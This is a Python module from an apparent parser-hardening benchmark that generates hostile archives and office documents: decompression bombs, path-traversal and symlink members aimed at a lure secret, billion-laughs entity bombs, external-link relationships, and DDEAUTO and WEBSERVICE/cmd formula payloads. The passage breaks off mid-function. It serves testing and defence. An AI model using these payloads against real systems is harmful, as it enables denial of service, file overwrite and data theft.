"""Files made to hurt their reader: archives, and the documents of offices, old and new. Entered into `hostile.ATTACKS`."""

# ruff: noqa: E501 - markup in one piece
from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import tempfile
import zipfile
import zlib
from collections.abc import Iterable

from bench.hostile import ATTACKS, MARK, Attack, Lure, attack, laughs, zeros

Members = Iterable[tuple[str, bytes]]
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
W = f'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="{RELATIONS}"'
S = f'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="{RELATIONS}"'
P = f'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="{RELATIONS}"'
OPEN = " ".join(
    f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for name in ("office", "text", "table", "draw")
)
OFD = 'xmlns:ofd="http://www.ofdspec.org/2016"'
MAINS = {
    "docx": ("word/document.xml", "wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation.main+xml"),
}
TEXT_CELL, STYLED_CELL = '<c t="s"><v>0</v></c>', '<c s="0"><v>1.5</v></c>'
LEVEL_TEXT, ENDLESS_FORMAT = "%1" * 1_000, "0.0%;[Red]" * 20_000
TALL_CELL = '<Cell ss:MergeDown="900"><Data>x</Data></Cell>'


def unpack_all(body: bytes, kind: str) -> None:
    """Unpacks everything to a folder, parses all XML that it finds and follows it; what no program should do."""
    from lxml import etree

    parser = etree.XMLParser(resolve_entities=True, load_dtd=True, no_network=False, huge_tree=True, recover=True)
    if kind in ("gz", "tgz"):
        gzip.decompress(body)
    elif kind == "bz2":
        bz2.decompress(body)
    elif kind == "xz":
        lzma.decompress(body)
    elif body.startswith(b"PK"):
        with tempfile.TemporaryDirectory() as folder, zipfile.ZipFile(io.BytesIO(body)) as bundle:
            for entry in bundle.infolist():
                content = bundle.read(entry)
                if entry.filename.endswith((".xml", ".rels")):
                    "".join(etree.fromstring(content, parser).itertext())
                bundle.extract(entry, folder)


# --- Archives


def entry(
    name: bytes, packed: bytes, size: int, *, checksum: int = 0, start: int = 0, method: int = 8, mode: int = 0o100644
) -> bytes:
    """A line of a ZIP's directory."""
    fields = (
        b"PK\1\2",
        3 << 8 | 20,
        20,
        0,
        method,
        0,
        33,
        checksum,
        len(packed),
        size,
        len(name),
        0,
        0,
        0,
        0,
        mode << 16,
        start,
    )
    return struct.pack("<4s6H3L5H2L", *fields) + name


def local(name: bytes, packed: bytes, size: int, checksum: int = 0, method: int = 8) -> bytes:
    """A member of a ZIP with its head."""
    return (
        struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, method, 0, 33, checksum, len(packed), size, len(name), 0)
        + name
        + packed
    )


def closed(members: bytes, directory: bytes, count: int) -> bytes:
    """A ZIP of members and their directory, whatever they say."""
    return (
        members
        + directory
        + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count & 0xFFFF, count & 0xFFFF, len(directory), len(members), 0)
    )


def zipped(*members: tuple[str, str | bytes]) -> bytes:
    """An honest ZIP; a name may come twice."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as bundle:
        for name, content in members:
            with bundle.open(zipfile.ZipInfo(name), "w", force_zip64=False) as stream:
                stream.write(content.encode() if isinstance(content, str) else content)
    return squeezed(out.getvalue())


def squeezed(body: bytes) -> bytes:
    """The same ZIP with every member deflated: ZipInfo alone would store them."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(body)) as had,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as bundle,
    ):
        for each in had.infolist():
            bundle.writestr(each.filename, had.read(each))
    return out.getvalue()


def bomb_in(name: str, mib: int, claimed: int | None = None) -> bytes:
    """A ZIP whose one member unpacks to so many MiB."""
    packed, size = zeros(mib, bare=True), mib << 20
    said = size if claimed is None else claimed
    return closed(local(name.encode(), packed, said), entry(name.encode(), packed, said), 1)


@attack("a.zip", quick=True)
def zip_of_one_member_of_2_gb() -> bytes:
    return bomb_in("a.txt", 2_000)


@attack("a.zip", quick=True)
def zip_that_says_a_member_is_small() -> bytes:
    return bomb_in("a.txt", 2_000, 100)


@attack("a.zip")
def zip_that_says_a_member_is_larger_than_any_disk() -> bytes:
    return bomb_in("a.txt", 1, 0xFFFFFFFE)


@attack("a.zip", quick=True)
def zip_of_16_zips_each_of_16_zips() -> bytes:
    inner = bomb_in("a.txt", 400)
    for _ in range(3):
        inner = zipped(*((f"{n}.zip", inner) for n in range(16)))
    return inner


@attack("a.zip")
def zip_of_60000_members_that_share_one_body() -> bytes:
    packed = zeros(4, bare=True)
    names = [f"{n}.txt".encode() for n in range(60_000)]
    return closed(
        local(b"0.txt", packed, 4 << 20), b"".join(entry(name, packed, 4 << 20) for name in names), len(names)
    )


@attack("a.zip")
def zip_of_1900_members_that_share_one_page() -> bytes:
    page = f"<table>{'<tr><td>1<td>2' * 6_000}</table>{MARK}".encode()
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed, checksum = packer.compress(page) + packer.flush(), zlib.crc32(page)
    names = [f"{n}.html".encode() for n in range(1_900)]
    lines = b"".join(entry(name, packed, len(page), checksum=checksum) for name in names)
    return closed(local(b"0.html", packed, len(page), checksum), lines, len(names))


@attack("a.zip")
def zip_of_65535_empty_members() -> bytes:
    names = [f"{n}.txt".encode() for n in range(65_535)]
    return closed(local(b"0.txt", b"", 0, 0, 0), b"".join(entry(name, b"", 0, method=0) for name in names), len(names))


@attack("a.zip")
def zip_of_names_of_64_kb() -> bytes:
    names = [b"\xd6\xd0" * 32_000 + b"%d" % n for n in range(1_900)]
    return closed(local(b"0", b"", 0), b"".join(entry(name, b"", 0, method=0) for name in names), len(names))


@attack("a.zip", quick=True)
def zip_whose_members_leave_it(lure: Lure) -> bytes:
    up = "../" * 30
    return zipped(
        *(
            (name, "x")
            for name in (up + lure.target[1:], lure.target, "C:\\windows\\a.txt", "CON", "a\0b", up + "etc/passwd")
        ),
        ("c.txt", MARK),
    )


@attack("a.zip", quick=True)
def zip_of_links_to_files(lure: Lure) -> bytes:
    target = lure.secret.encode()
    body = local(b"a.txt", target, len(target), zlib.crc32(target), 0)
    name = f"{MARK}.txt".encode()
    return closed(body, entry(name, target, len(target), checksum=zlib.crc32(target), method=0, mode=0o120777), 1)


@attack("a.zip")
def zip_with_100000_ends() -> bytes:
    return zipped(("a.txt", MARK)) + b"PK\5\6" * 500_000


@attack("a.zip", quick=True)
def zip_of_one_name_twice() -> bytes:
    return zipped(("a.txt", "one"), ("a.txt", MARK))


@attack("a.zip")
def zip_of_40_workbooks_that_unpack_to_much() -> bytes:
    sheet = ("<row>" + "<c><v>1</v></c>" * 100 + "</row>") * 3_000
    return zipped(*((f"{n}.xlsx", xlsx(sheet)) for n in range(40)))


@attack("a.gz")
def gzip_of_2_gb() -> bytes:
    return b"\x1f\x8b\x08\0\0\0\0\0\0\3" + zeros(2_000, bare=True) + bytes(8)


@attack("a.gz")
def gzip_of_a_million_empty_members() -> bytes:
    return gzip.compress(b"", mtime=0) * 1_000_000 + gzip.compress(MARK.encode())


@attack("a.bz2")
def bzip2_of_2_gb() -> bytes:
    return bz2.compress(bytes(40 << 20)) * 50


@attack("a.xz")
def xz_of_2_gb() -> bytes:
    return lzma.compress(bytes(40 << 20)) * 50


@attack("a.xz", quick=True)
def xz_with_a_dictionary_of_4_gb() -> bytes:
    body = bytearray(lzma.compress(MARK.encode()))
    body[12 + 2 + 2] = 40  # the size of the dictionary in the head of the block
    body[12 + 8 : 12 + 12] = struct.pack("<L", zlib.crc32(bytes(body[12:20])))
    return bytes(body)


@attack("a.7z", quick=True)
def sevenzip_that_claims_a_quintillion_files() -> bytes:
    head = b"\x01\x05\xff" + struct.pack("<Q", 1 << 60)
    start = struct.pack("<QQL", 0, len(head), zlib.crc32(head))
    return b"7z\xbc\xaf\x27\x1c\0\4" + struct.pack("<L", zlib.crc32(start)) + start + head


@attack("a.7z")
def sevenzip_of_300_mb() -> bytes:
    import py7zr

    out = io.BytesIO()
    with py7zr.SevenZipFile(out, "w", filters=[{"id": py7zr.FILTER_LZMA2, "preset": 1}]) as bundle:
        bundle.writestr(bytes(300 << 20), "a.txt")
    return out.getvalue()


@attack("a.rar", quick=True)
def rar_that_claims_a_dictionary_of_a_terabyte() -> bytes:
    def block(content: bytes) -> bytes:
        content = bytes((len(content),)) + content
        return struct.pack("<L", zlib.crc32(content)) + content

    said = b"\x02\x02" + b"\x80\x01" + b"\x04" + b"\xff\xff\xff\xff\x7f" + b"\x80\x80\x01" + bytes(4)
    head = said + b"\x80\xff\x01" + b"\x01\x05a.txt"
    return b"Rar!\x1a\x07\x01\x00" + block(b"\x01\x00\x00") + block(head) + bytes(256) + block(b"\x05\x00\x00")


@attack("a.rar")
def rar_of_50000_members_cut_off() -> bytes:
    head = struct.pack("<2LB2L2BHL", 0, 0xFFFFFFFF, 2, 0, 0, 29, 0x33, 5, 0x20) + b"a.txt"
    block = struct.pack("<BHH", 0x74, 0x8000, 7 + len(head)) + head
    first = struct.pack("<BHH", 0x73, 0, 13) + bytes(6)
    return b"Rar!\x1a\x07\x00" + b"".join(
        struct.pack("<H", zlib.crc32(each) & 0xFFFF) + each for each in (first, *[block] * 50_000)
    )


def tarred(*members: tarfile.TarInfo) -> bytes:
    """A tar of heads alone."""
    blocks = {each: each.tobuf(tarfile.GNU_FORMAT) for each in set(members)}
    return b"".join(blocks[each] for each in members) + bytes(1_024)


def head(name: str, kind: bytes = tarfile.REGTYPE, size: int = 0, link: str = "") -> tarfile.TarInfo:
    """The head of a member of a tar."""
    info = tarfile.TarInfo(name)
    info.type, info.size, info.linkname = kind, size, link
    return info


@attack("a.tar")
def tar_of_100000_members() -> bytes:
    return tarred(*[head("a")] * 100_000)


@attack("a.tar")
def tar_of_100000_names_of_names() -> bytes:
    return tarred(*[head("a", tarfile.GNUTYPE_LONGNAME)] * 100_000)


@attack("a.tar", quick=True)
def tar_of_a_member_of_8_tb() -> bytes:
    return tarred(head("a", size=8 << 40)) + tarred(head("b", tarfile.XHDTYPE, 1 << 40))


@attack("a.tar", quick=True)
def tar_of_links_and_devices(lure: Lure) -> bytes:
    links = head("a.txt", tarfile.SYMTYPE, link=lure.secret), head("b.txt", tarfile.LNKTYPE, link=lure.secret)
    return tarred(*links, head("/dev/sda", tarfile.BLKTYPE), head("../" * 20 + lure.target), head(MARK))


# --- Documents of today's offices


def office(kind: str, main: str | bytes, *more: tuple[str, str | bytes], related: str = "") -> bytes:
    """A .docx, .xlsx or .pptx of a main part and more parts, which `related` relates to it."""
    part, media = MAINS[kind]
    types = f'<Types xmlns="{TYPES}"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/{part}" ContentType="application/vnd.openxmlformats-officedocument.{media}"/></Types>'
    start = f'<Relationships xmlns="{PACKAGE}"><Relationship Id="r1" Type="{RELATIONS}/officeDocument" Target="{part}"/></Relationships>'
    folder, _, name = part.partition("/")
    links = f'<Relationships xmlns="{PACKAGE}">{related}</Relationships>'
    return zipped(
        ("[Content_Types].xml", types),
        ("_rels/.rels", start),
        (part, main),
        (f"{folder}/_rels/{name}.rels", links),
        *more,
    )


def relation(number: int, kind: str, target: str, outside: bool = False) -> str:
    """A relationship of a part."""
    mode = ' TargetMode="External"' if outside else ""
    return f'<Relationship Id="r{number}" Type="{RELATIONS}/{kind}" Target="{target}"{mode}/>'


def paragraph(text: str) -> str:
    """A paragraph of Word."""
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def docx(inside: str, *more: tuple[str, str | bytes], related: str = "") -> bytes:
    """A Word document that says MARK at its end."""
    return office(
        "docx", f"<w:document {W}><w:body>{inside}{paragraph(MARK)}</w:body></w:document>", *more, related=related
    )


def xlsx(rows: str, strings: str = "", after: str = "", styles: str = "", before: str = "") -> bytes:
    """A workbook of one sheet."""
    book = f'<workbook {S}><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>'
    sheet = f"<worksheet {S}>{before}<sheetData>{rows}</sheetData>{after}</worksheet>"
    parts = [
        ("xl/worksheets/sheet1.xml", sheet),
        ("xl/sharedStrings.xml", f"<sst {S}>{strings}</sst>"),
        ("xl/styles.xml", f"<styleSheet {S}>{styles}</styleSheet>"),
    ]
    related = (
        relation(1, "worksheet", "worksheets/sheet1.xml")
        + relation(2, "sharedStrings", "sharedStrings.xml")
        + relation(3, "styles", "styles.xml")
    )
    return office("xlsx", book, *parts, related=related)


LAUGHED = {
    "docx": (f"<w:document {W}><w:body>{paragraph('INSIDE')}</w:body></w:document>", "docx"),
    "xlsx": (f'<workbook {S}><sheets><sheet name="INSIDE" sheetId="1" r:id="r1"/></sheets></workbook>', "xlsx"),
    "pptx": (f"<p:presentation {P}>INSIDE</p:presentation>", "pptx"),
}


def _laughing(kind: str, encoding: str) -> object:
    def make(lure: Lure) -> bytes:
        return office(kind, laughs(lure, LAUGHED[kind][0], encoding))

    return make


for _kind in LAUGHED:
    for _encoding in ("utf-8", "utf-16", "utf-7", "cp037", "utf-32"):
        ATTACKS.append(
            Attack(
                f"{_kind}_with_a_billion_laughs_in_{_encoding}",
                _laughing(_kind, _encoding),
                f"a.{_kind}",
                "",
                _encoding == "utf-8",
            )
        )


@attack("a.docx", quick=True)
def docx_with_entities_in_every_other_part(lure: Lure) -> bytes:
    bomb = laughs(lure, "<a>INSIDE</a>")
    names = ("styles", "numbering", "footnotes", "header1")
    related = "".join(relation(n, name.rstrip("1"), f"{name}.xml") for n, name in enumerate(names, 1))
    return docx(
        "",
        *((f"word/{name}.xml", bomb) for name in names),
        ("docProps/core.xml", bomb),
        ("docProps/app.xml", bomb),
        related=related,
    )


@attack("a.docx", quick=True)
def docx_with_relations_to_other_places(lure: Lure) -> bytes:
    kinds = ("attachedTemplate", "image", "oleObject", "aFChunk", "subDocument", "frame", "hyperlink")
    related = "".join(
        relation(n, kind, target, True)
        for n, kind in enumerate(kinds, 1)
        for target in (lure.url, f"file://{lure.secret}")
    )
    uses = "".join(f'<w:altChunk r:id="r{n}"/><w:subDoc r:id="r{n}"/>' for n in range(1, 8))
    return docx(uses + '<w:p><w:r><w:fldSimple w:instr="DDEAUTO c:\\\\cmd"/><w:object/></w:r></w:p>', related=related)


@attack("a.docx")
def docx_of_5000_tables_in_one_another() -> bytes:
    return docx("<w:tbl><w:tr><w:tc>" * 5_000 + paragraph("x") + "</w:tc></w:tr></w:tbl>" * 5_000)


@attack("a.docx", quick=True)
def docx_of_80_tables_in_one_another() -> bytes:
    return docx("<w:tbl><w:tr><w:tc>" * 80 + paragraph("x") + "</w:tc><w:tc/></w:tr></w:tbl>" * 80)


@attack("a.docx")
def docx_of_text_boxes_in_one_another() -> bytes:
    opened = '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:9pt"><v:textbox><w:txbxContent>'
    return docx(opened * 30 + paragraph("x") + "</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>" * 30)


@attack("a.docx")
def docx_of_100000_text_boxes() -> bytes:
    shape = (
        '<w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:9pt"><v:textbox><w:txbxContent>'
        + paragraph("x")
        + "</w:txbxContent></v:textbox></v:shape></w:pict>"
    )
    return docx(f"<w:p><w:r>{shape * 1_000}</w:r></w:p>" * 100)


@attack("a.docx")
def docx_of_a_million_styles() -> bytes:
    styles = "".join(f'<w:style w:styleId="s{n}"><w:basedOn w:val="s{n + 1}"/></w:style>' for n in range(1_000_000))
    return docx(
        '<w:p><w:pPr><w:pStyle w:val="s0"/></w:pPr></w:p>',
        ("word/styles.xml", f"<w:styles {W}>{styles}</w:styles>"),
        related=relation(1, "styles", "styles.xml"),
    )


@attack("a.docx")
def docx_of_a_million_paragraphs() -> bytes:
    return docx(paragraph("x") * 1_000_000)


@attack("a.docx")
def docx_of_a_million_cells() -> bytes:
    return docx("<w:tbl>" + f"<w:tr>{('<w:tc>' + paragraph('1') + '</w:tc>') * 100}</w:tr>" * 10_000 + "</w:tbl>")


@attack("a.docx", quick=True)
def docx_of_cells_that_claim_a_billion_columns() -> bytes:
    cell = (
        '<w:tc><w:tcPr><w:gridSpan w:val="1000000000"/><w:vMerge w:val="restart"/></w:tcPr>'
        + paragraph("x")
        + "</w:tc>"
    )
    return docx(
        "<w:tbl>" + f'<w:tr><w:trPr><w:gridBefore w:val="999999999"/></w:trPr>{cell * 5}</w:tr>' * 100 + "</w:tbl>"
    )


@attack("a.docx", quick=True)
def docx_of_lists_that_begin_at_a_quintillion() -> bytes:
    forms = ("decimal", "chineseCounting", "upperRoman", "lowerLetter", "chineseLegalSimplified", "japaneseCounting")
    levels = "".join(
        f'<w:lvl w:ilvl="{n}"><w:start w:val="1000000000000000000"/><w:numFmt w:val="{form}"/><w:lvlText w:val="{LEVEL_TEXT}"/></w:lvl>'
        for n, form in enumerate(forms)
    )
    numbering = f'<w:numbering {W}><w:abstractNum w:abstractNumId="0">{levels}</w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
    inside = (
        "".join(
            f'<w:p><w:pPr><w:numPr><w:ilvl w:val="{n}"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>x</w:t></w:r></w:p>'
            for n in range(6)
        )
        * 500
    )
    return docx(inside, ("word/numbering.xml", numbering), related=relation(1, "numbering", "numbering.xml"))


@attack("a.docx")
def docx_in_docx_30_deep() -> bytes:
    body = docx("")
    for _ in range(30):
        body = docx('<w:altChunk r:id="r1"/>' * 10, ("word/a.docx", body), related=relation(1, "aFChunk", "a.docx"))
    return body


@attack("a.docx", quick=True)
def docx_whose_main_part_comes_twice() -> bytes:
    return docx("", ("word/document.xml", f"<w:document {W}><w:body>{paragraph('另一份')}</w:body></w:document>"))


@attack("a.docx")
def docx_whose_main_part_is_a_bomb() -> bytes:
    return bomb_in("word/document.xml", 1_000)


@attack("a.xml")
def word_xml_5000_deep() -> bytes:
    return f'<?xml version="1.0"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:body>{"<w:tbl><w:tr><w:tc>" * 5_000}'.encode()


@attack("a.xlsx", quick=True)
def xlsx_that_claims_every_cell() -> bytes:
    return xlsx(
        f'<row r="1"><c r="A1" t="inlineStr"><is><t>{MARK}</t></is></c></row>',
        before='<dimension ref="A1:XFD1048576"/>',
    )


@attack("a.xlsx")
def xlsx_of_two_cells_far_apart() -> bytes:
    return xlsx(
        f'<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576" t="str"><v>{MARK}</v></c></row>'
    )


@attack("a.xlsx")
def xlsx_of_two_cells_far_apart_with_references_written_oddly() -> bytes:
    return xlsx(
        '<row r="1"><c s="0" x="{}" r="A1"><v>1</v></c></row><row r="1048576"><c\nx="{}"\nr = "XFD1048576"><v>1</v></c></row>'.format(
            "y" * 80, "y" * 80
        )
    )


@attack("a.xlsx")
def xlsx_whose_rows_alone_say_where_they_are() -> bytes:
    return xlsx('<row r="1"><c><v>1</v></c></row><row r="1048576">' + "<c><v>1</v></c>" * 16_000 + "</row>")


@attack("a.xlsx")
def xlsx_of_200000_merges() -> bytes:
    merges = "".join(f'<mergeCell ref="A{n}:XFD{n}"/>' for n in range(1, 200_001))
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="str"><v>{MARK}</v></c></row>' for n in range(1, 2_000))
    return xlsx(rows, after=f"<mergeCells>{merges}</mergeCells>")


@attack("a.xlsx")
def xlsx_of_a_sheet_of_180_mb() -> bytes:
    return xlsx("".join(f'<row r="{n}">{"<c><v>1</v></c>" * 1_000}</row>' for n in range(1, 12_001)))


@attack("a.xlsx")
def xlsx_of_a_sheet_of_1_gb() -> bytes:
    return bomb_in("xl/worksheets/sheet1.xml", 1_000)


@attack("a.xlsx")
def xlsx_of_one_long_string_in_every_cell() -> bytes:
    return xlsx(f"<row>{TEXT_CELL * 1_000}</row>" * 20, f"<si><t>{'文' * 300_000}</t></si>")


@attack("a.xlsx")
def xlsx_of_numbers_of_309_digits() -> bytes:
    return xlsx(f"<row>{'<c><v>1e308</v></c>' * 1_000}</row>" * 400)


@attack("a.xlsx")
def xlsx_of_formats_without_end() -> bytes:
    formats = f'<numFmts><numFmt numFmtId="200" formatCode="{ENDLESS_FORMAT}"/></numFmts><cellXfs><xf numFmtId="200"/></cellXfs>'
    return xlsx(f"<row>{STYLED_CELL * 500}</row>" * 20 + f'<row><c t="str"><v>{MARK}</v></c></row>', styles=formats)


@attack("a.xlsx")
def xlsx_of_50000_sheets() -> bytes:
    sheets = "".join(f'<sheet name="a{n}" sheetId="{n}" r:id="r1"/>' for n in range(1, 50_001))
    sheet = f"<worksheet {S}><sheetData>{'<row><c><v>1</v></c></row>' * 3_000}</sheetData></worksheet>"
    return office(
        "xlsx",
        f"<workbook {S}><sheets>{sheets}</sheets></workbook>",
        ("xl/worksheets/sheet1.xml", sheet),
        related=relation(1, "worksheet", "worksheets/sheet1.xml"),
    )


@attack("a.xlsx", quick=True)
def xlsx_with_links_to_other_places(lure: Lure) -> bytes:
    formula = f"<f>WEBSERVICE(\"{lure.url}\")&amp;cmd|'/c calc'!A0&amp;'file://{lure.secret}'#$a.A1</f>"
    return xlsx(f'<row r="1"><c r="A1" t="str">{formula}<v>{MARK}</v></c></row>')


@attack("a.xlsb")
def xlsb_of_two_cells_far_apart() -> bytes:
    def record(kind: int, content: bytes) -> bytes:
        number = bytes((kind,)) if kind < 128 else bytes((kind & 0x7F | 0x80, kind >> 7))
        return number + bytes((len(content),)) + content

    def words(text: str) -> bytes:
        return struct.pack("<L", len(text)) + text.encode("utf-16-le")

    book = (
        record(131, b"")
        + record(143, b"")
        + record(156, struct.pack("<LL", 0, 1) + words("rId1") + words("a"))
        + record(144, b"")
        + record(132, b"")
    )
    cells = b"".join(
        record(0, struct.pack("<L", row) + bytes(13)) + record(2, struct.pack("<LLL", column, 0, 6))
        for row, column in ((0, 0), (1_048_575, 16_383))
    )
    sheet = (
        record(129, b"")
        + record(148, struct.pack("<4L", 0, 1_048_575, 0, 16_383))
        + record(145, b"")
        + cells
        + record(146, b"")
        + record(130, b"")
    )
    types = f'<Types xmlns="{TYPES}"><Override PartName="/xl/workbook.bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/></Types>'
    links = f'<Relationships xmlns="{PACKAGE}"><Relationship Id="rId1" Type="{RELATIONS}/worksheet" Target="worksheets/sheet1.bin"/></Relationships>'
    return zipped(
        ("[Content_Types].xml", types),
        ("xl/workbook.bin", book),
        ("xl/_rels/workbook.bin.rels", links),
        ("xl/worksheets/sheet1.bin", sheet),
    )


def pptx(shapes: str, count: int = 1) -> bytes:
    """A presentation that shows one slide so many times."""
    ids = "".join(f'<p:sldId id="{256 + n}" r:id="r1"/>' for n in range(count))
    end = f"<p:sp><p:txBody><a:p><a:r><a:t>{MARK}</a:t></a:r></a:p></p:txBody></p:sp>"
    slide = f"<p:sld {P}><p:cSld><p:spTree>{shapes}{end}</p:spTree></p:cSld></p:sld>"
    return office(
        "pptx",
        f"<p:presentation {P}><p:sldIdLst>{ids}</p:sldIdLst></p:presentation>",
        ("ppt/slides/slide1.xml", slide),
        related=relation(1, "slide", "slides/slide1.xml"),
    )


@attack("a.pptx")
def pptx_that_shows_one_slide_100000_times() -> bytes:
    return pptx("<p:sp><p:txBody><a:p><a:r><a:t>x</a:t></a:r></a:p></p:txBody></p:sp>" * 2_000, 100_000)


@attack("a.pptx", quick=True)
def pptx_of_groups_in_one_another() -> bytes:
    return pptx("<p:grpSp>" * 200 + "</p:grpSp>" * 200)


@attack("a.pptx")
def pptx_of_300000_shapes() -> bytes:
    return pptx("<p:sp><p:txBody><a:p><a:r><a:t>x</a:t></a:r></a:p></p:txBody></p:sp>" * 300_000)


def odf(kind: str, inside: str, *more: tuple[str, str | bytes]) -> bytes:
    """An OpenDocument file that says MARK at its end."""
    body = f"<text:p>{MARK}</text:p>" if kind == "text" else ""
    content = f'<office:document-content {OPEN} xmlns:xlink="http://www.w3.org/1999/xlink"><office:body><office:{kind}>{inside}{body}</office:{kind}></office:body></office:document-content>'
    return zipped(("mimetype", f"application/vnd.oasis.opendocument.{kind}"), ("content.xml", content), *more)


@attack("a.odt", quick=True)
def odt_of_two_billion_blanks() -> bytes:
    return odf("text", '<text:p><text:s text:c="2000000000"/><text:tab/></text:p>')


@attack("a.odt", quick=True)
def odt_of_a_table_that_repeats_itself() -> bytes:
    cell = '<table:table-cell table:number-columns-repeated="1000000000" table:number-columns-spanned="100000"><text:p>x</text:p></table:table-cell>'
    return odf(
        "text",
        f'<table:table><table:table-row table:number-rows-repeated="1000000000">{cell}</table:table-row></table:table>',
    )


@attack("a.odt")
def odt_of_60_tables_in_one_another() -> bytes:
    return odf(
        "text",
        "<table:table><table:table-row><table:table-cell>" * 60
        + "</table:table-cell></table:table-row></table:table>" * 60,
    )


@attack("a.odt")
def odt_5000_deep() -> bytes:
    return odf("text", "<text:section>" * 5_000 + "</text:section>" * 5_000)


@attack("a.odt", quick=True)
def odt_with_pictures_and_sections_elsewhere(lure: Lure) -> bytes:
    return odf(
        "text",
        f'<text:section><text:section-source xlink:href="{lure.url}"/></text:section><draw:frame><draw:image xlink:href="{lure.url}"/></draw:frame><draw:object xlink:href="file://{lure.secret}"/>',
    )


@attack("a.odt", quick=True)
def odt_with_a_billion_laughs(lure: Lure) -> bytes:
    return odf(
        "text", "", ("styles.xml", laughs(lure, "<a>INSIDE</a>")), ("meta.xml", laughs(lure, "<a>INSIDE</a>", "utf-16"))
    )


@attack("a.fodt", quick=True)
def flat_odt_with_a_billion_laughs(lure: Lure) -> bytes:
    return laughs(
        lure,
        f"<office:document {OPEN}><office:body><office:text><text:p>INSIDE</text:p></office:text></office:body></office:document>",
    )


@attack("a.ods", quick=True)
def ods_of_cells_that_repeat_a_billion_times() -> bytes:
    cell = '<table:table-cell office:value-type="string" table:number-columns-repeated="16384"><text:p>x</text:p></table:table-cell>'
    return odf(
        "spreadsheet",
        f'<table:table table:name="a"><table:table-row table:number-rows-repeated="1048576">{cell}</table:table-row></table:table>',
    )


@attack("a.ods")
def ods_of_one_long_text_that_repeats() -> bytes:
    cell = f'<table:table-cell office:value-type="string" table:number-columns-repeated="1000"><text:p>{"x" * 1_000_000}</text:p></table:table-cell>'
    return odf(
        "spreadsheet",
        f'<table:table table:name="a"><table:table-row table:number-rows-repeated="1000">{cell}</table:table-row></table:table>',
    )


def ofd(page: str, templates: str = "") -> bytes:
    """An OFD of one page."""
    root = f"<ofd:OFD {OFD}><ofd:DocBody><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>"
    common = f"<ofd:CommonData><ofd:PageArea><ofd:PhysicalBox>0 0 210 297</ofd:PhysicalBox></ofd:PageArea>{templates}</ofd:CommonData>"
    document = f'<ofd:Document {OFD}>{common}<ofd:Pages><ofd:Page ID="1" BaseLoc="Pages/Page_0/Content.xml"/></ofd:Pages></ofd:Document>'
    end = f'<ofd:TextObject ID="9" Boundary="10 280 90 9" Size="5"><ofd:TextCode X="0" Y="5" DeltaX="5">{MARK}</ofd:TextCode></ofd:TextObject>'
    content = f"<ofd:Page {OFD}>{page.replace('<ofd:Content>', '')}<ofd:Content><ofd:Layer>{'' if '<ofd:Template' in page else page}{end}</ofd:Layer></ofd:Content></ofd:Page>"
    return zipped(("OFD.xml", root), ("Doc_0/Document.xml", document), ("Doc_0/Pages/Page_0/Content.xml", content))


@attack("a.ofd", quick=True)
def ofd_of_steps_that_repeat_a_billion_times() -> bytes:
    return ofd(
        '<ofd:TextObject ID="3" Boundary="0 0 90 9" Size="5"><ofd:TextCode X="0" Y="5" DeltaX="g 1000000000 5 g 2000000000 5">一二</ofd:TextCode></ofd:TextObject>'
    )


@attack("a.ofd")
def ofd_of_200000_words() -> bytes:
    return ofd(
        '<ofd:TextObject ID="3" Boundary="0 0 90 9" Size="5"><ofd:TextCode X="0" Y="5">一</ofd:TextCode></ofd:TextObject>'
        * 200_000
    )


@attack("a.ofd")
def ofd_of_lines_that_all_cross() -> bytes:
    lines = "".join(
        f'<ofd:PathObject ID="3" Boundary="0 {n / 10} 210 1"><ofd:AbbreviatedData>M 0 0 L 210 0</ofd:AbbreviatedData></ofd:PathObject><ofd:PathObject ID="3" Boundary="{n / 10} 0 1 297"><ofd:AbbreviatedData>M 0 0 L 0 297</ofd:AbbreviatedData></ofd:PathObject>'
        for n in range(2_000)
    )
    return ofd(lines)


@attack("a.ofd", quick=True)
def ofd_of_a_template_that_is_its_own() -> bytes:
    return ofd('<ofd:Template TemplateID="2"/>', '<ofd:TemplatePage ID="2" BaseLoc="Pages/Page_0/Content.xml"/>')


def sheet_xml(rows: str) -> bytes:
    """A workbook of Excel 2003 in XML."""
    name = "urn:schemas-microsoft-com:office:spreadsheet"
    return f'<?xml version="1.0"?><Workbook xmlns="{name}" xmlns:ss="{name}"><Worksheet ss:Name="a"><Table>{rows}</Table></Worksheet></Workbook>'.encode()


@attack("a.xls", quick=True)
def sheet_xml_of_places_far_apart() -> bytes:
    return sheet_xml(
